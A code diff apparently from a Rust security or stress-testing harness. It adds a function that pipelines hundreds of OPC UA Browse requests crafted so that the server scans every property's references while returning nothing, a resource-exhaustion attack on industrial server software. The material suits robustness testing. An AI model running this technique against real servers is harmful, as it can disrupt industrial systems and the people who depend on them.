@@ -84,6 +84,25 @@ pub(super) fn browse(attacker: &mut Attacker<'_>, way: Way) -> Result<(), Lost> 
     Ok(())
 }
 
+/// Browses PropertyType (i=68) for references of a type that it does not have: the server examines the references of all
+/// Properties, which is less than a slice, and the answer is empty. Hundreds of these requests are in one buffer.
+pub(super) fn browse_many(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
+    let mut session = Session::open(attacker, Way::Tcp)?;
+    let description = BrowseDescription {
+        node_id: NodeId::numeric(0, ids::PROPERTY_TYPE),
+        browse_direction: BrowseDirection::Inverse,
+        reference_type_id: NodeId::numeric(0, ids::ORGANIZES),
+        ..BrowseDescription::default()
+    };
+    let message = subject::message(&BrowseRequest {
+        request_header: session.header(),
+        nodes_to_browse: vec![description],
+        ..BrowseRequest::default()
+    });
+    let pipelined = attacker.count(500);
+    session.repeat(attacker, &message, pipelined)
+}
+
 /// Sends BrowseNext with one reference in each answer, over connections that wait for their answers.
 pub(super) fn browse_next(attacker: &mut Attacker<'_>, way: Way) -> Result<(), Lost> {
     let mut sessions = Vec::new();
